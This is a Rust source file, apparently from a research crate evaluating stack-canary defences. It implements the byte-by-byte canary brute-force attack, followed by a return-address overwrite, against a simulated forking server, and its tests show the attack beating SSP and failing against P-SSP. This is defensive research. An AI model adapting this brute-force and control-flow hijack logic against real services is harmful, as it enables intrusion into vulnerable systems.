//! The byte-by-byte (BROP-style) attack of §II-B.
//!
//! The attacker overwrites the canary one byte at a time, starting from the
//! lowest address.  A surviving worker confirms the guessed byte; a crashed
//! worker is replaced by a fresh fork and the attacker tries the next value.
//! Against SSP all workers share one canary, so confirmed bytes stay valid
//! and the full canary falls after roughly 8 · 2⁷ = 1024 requests.  Against
//! P-SSP every fork carries a fresh split pair, so "confirmed" bytes are
//! stale by the next request and the attack never converges.

use polycanary_core::scheme::SchemeKind;

use crate::oracle::OverflowOracle;
use crate::stats::AttackResult;
use crate::victim::{FrameGeometry, HIJACK_TARGET};

/// Filler byte used to reach the canary (any value works; 'A' is tradition).
const FILLER: u8 = 0x41;

/// Configuration of the byte-by-byte strategy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ByteByByteAttack {
    /// Abort the campaign after this many oracle queries.
    pub max_trials: u64,
    /// The address the final exploit diverts control flow to.
    pub hijack_target: u64,
}

impl Default for ByteByByteAttack {
    fn default() -> Self {
        ByteByByteAttack { max_trials: 50_000, hijack_target: HIJACK_TARGET }
    }
}

impl ByteByByteAttack {
    /// Creates the strategy with a custom trial budget.
    pub fn with_budget(max_trials: u64) -> Self {
        ByteByByteAttack { max_trials, ..Self::default() }
    }

    /// Runs the campaign against `oracle`.
    ///
    /// `scheme` is only recorded in the result for reporting; the strategy
    /// itself is oblivious to the defence, exactly like a real attacker.
    pub fn run(
        &self,
        oracle: &mut dyn OverflowOracle,
        geometry: FrameGeometry,
        scheme: SchemeKind,
    ) -> AttackResult {
        // One payload buffer for the whole campaign: filler, the confirmed
        // canary bytes, then the byte under guess — only that last byte
        // changes between requests.
        let filler = geometry.filler_len;
        let mut payload = Vec::with_capacity(filler + geometry.canary_region_len + 16);
        payload.resize(filler, FILLER);
        let mut trials = 0u64;

        for _byte_index in 0..geometry.canary_region_len {
            let slot = payload.len();
            payload.push(0);
            let mut found = false;
            for guess in 0..=255u8 {
                if trials >= self.max_trials {
                    return AttackResult::exhausted("byte-by-byte", scheme, trials);
                }
                payload[slot] = guess;
                trials += 1;
                if oracle.attempt(&payload).survived() {
                    found = true;
                    break;
                }
            }
            if !found {
                // No value survived a full sweep: the canary changed under
                // our feet (re-randomization) — the attack cannot make
                // progress on this byte.
                payload.pop();
                return AttackResult {
                    strategy: "byte-by-byte",
                    scheme,
                    success: false,
                    trials,
                    recovered_canary: Some(payload[filler..].to_vec()),
                    final_outcome: None,
                };
            }
        }
        let recovered = payload[filler..].to_vec();

        // All canary bytes "recovered": fire the real exploit, overwriting the
        // saved frame pointer and the return address.
        payload.extend_from_slice(&[FILLER; 8]); // saved %rbp — value irrelevant
        payload.extend_from_slice(&self.hijack_target.to_le_bytes());
        trials += 1;
        let outcome = oracle.attempt(&payload);

        AttackResult {
            strategy: "byte-by-byte",
            scheme,
            success: outcome.hijacked(),
            trials,
            recovered_canary: Some(recovered),
            final_outcome: Some(outcome),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::RequestOutcome;
    use crate::victim::{ForkingServer, VictimConfig};

    /// Synthetic oracle with a fixed canary, for fast deterministic tests of
    /// the strategy logic itself.
    struct FixedCanaryOracle {
        canary: [u8; 8],
        filler_len: usize,
        trials: u64,
    }

    impl OverflowOracle for FixedCanaryOracle {
        fn attempt(&mut self, payload: &[u8]) -> RequestOutcome {
            self.trials += 1;
            let overwrite = &payload[self.filler_len..];
            let touched = overwrite.len().min(8);
            if overwrite[..touched] == self.canary[..touched] {
                if overwrite.len() > 16 {
                    RequestOutcome::Hijacked
                } else {
                    RequestOutcome::Survived
                }
            } else {
                RequestOutcome::Detected
            }
        }

        fn trials(&self) -> u64 {
            self.trials
        }
    }

    #[test]
    fn recovers_a_fixed_canary_byte_by_byte() {
        let canary = [0x11, 0x22, 0x00, 0x44, 0x55, 0x66, 0x77, 0x7f];
        let mut oracle = FixedCanaryOracle { canary, filler_len: 16, trials: 0 };
        let geometry = FrameGeometry { filler_len: 16, canary_region_len: 8 };
        let result = ByteByByteAttack::default().run(&mut oracle, geometry, SchemeKind::Ssp);
        assert!(result.success);
        assert_eq!(result.recovered_canary.as_deref(), Some(&canary[..]));
        // Sum of the byte values + 8 confirmations + 1 exploit.
        let expected: u64 = canary.iter().map(|&b| u64::from(b) + 1).sum::<u64>() + 1;
        assert_eq!(result.trials, expected);
    }

    #[test]
    fn respects_the_trial_budget() {
        let canary = [0xFF; 8];
        let mut oracle = FixedCanaryOracle { canary, filler_len: 16, trials: 0 };
        let geometry = FrameGeometry { filler_len: 16, canary_region_len: 8 };
        let result = ByteByByteAttack::with_budget(100).run(&mut oracle, geometry, SchemeKind::Ssp);
        assert!(!result.success);
        assert!(result.trials <= 100);
    }

    #[test]
    fn defeats_ssp_on_the_real_forking_server_in_about_a_thousand_trials() {
        let mut server = ForkingServer::new(VictimConfig::new(SchemeKind::Ssp, 0xA77A));
        let geometry = server.geometry();
        let result = ByteByByteAttack::default().run(&mut server, geometry, SchemeKind::Ssp);
        assert!(result.success, "SSP must fall to the byte-by-byte attack: {result:?}");
        // §II-B: about 8 * 2^7 = 1024 expected; allow generous slack since a
        // single canary sample can be lucky or unlucky.
        assert!(
            result.trials >= 64 && result.trials <= 8 * 256 + 1,
            "unexpected trial count {}",
            result.trials
        );
    }

    #[test]
    fn fails_against_pssp_on_the_real_forking_server() {
        let mut server = ForkingServer::new(VictimConfig::new(SchemeKind::Pssp, 0xA77A));
        let geometry = server.geometry();
        let result =
            ByteByByteAttack::with_budget(12_000).run(&mut server, geometry, SchemeKind::Pssp);
        assert!(!result.success, "P-SSP must defeat the byte-by-byte attack");
    }

    #[test]
    fn fails_against_pssp_nt_on_the_real_forking_server() {
        let mut server = ForkingServer::new(VictimConfig::new(SchemeKind::PsspNt, 7));
        let geometry = server.geometry();
        let result =
            ByteByByteAttack::with_budget(8_000).run(&mut server, geometry, SchemeKind::PsspNt);
        assert!(!result.success);
    }
}
